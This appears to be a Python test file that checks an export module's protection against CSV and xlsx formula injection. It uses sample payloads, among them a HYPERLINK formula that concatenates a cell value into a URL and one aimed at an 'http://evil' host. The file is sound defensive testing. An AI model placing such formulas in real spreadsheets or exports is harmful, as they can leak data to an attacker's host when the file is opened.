import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from aftersales.core.exports import csv_rows, safe_cell


def test_formulas_become_text_and_numbers_stay_numbers():
    assert safe_cell('=HYPERLINK("http://x/?"&A1,"x")').startswith("'=")
    for start in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(start) == "'" + start
    assert safe_cell(-5) == -5 and safe_cell(None) == "" and safe_cell("张三") == "张三"


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_no_cell_of_an_export_starts_a_formula(cells):
    text = "".join(csv_rows(["a"] * len(cells), [cells])).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_never_writes_a_formula_and_keeps_numbers_and_dates():
    import datetime
    import decimal

    from openpyxl import load_workbook

    from aftersales.core.exports import xlsx_file

    when = datetime.datetime(2026, 10, 9, 17, 0, tzinfo=datetime.UTC)
    book = load_workbook(
        xlsx_file(
            ["服务单", "=SUM(A1)"],
            [['=HYPERLINK("http://evil")', 3, decimal.Decimal("1.50"), when, "a\x00b", None]],
        )
    )
    header, row = list(book.active.iter_rows())
    assert [c.value for c in header[:2]] == ["服务单", "=SUM(A1)"]
    assert all(c.data_type == "s" for c in header[:2])
    assert row[0].value == '=HYPERLINK("http://evil")' and row[0].data_type == "s"
    assert row[1].value == 3 and row[2].value == 1.5
    assert row[3].value == when.replace(tzinfo=None)
    assert row[4].value == "ab"  # control characters a spreadsheet cannot hold are dropped
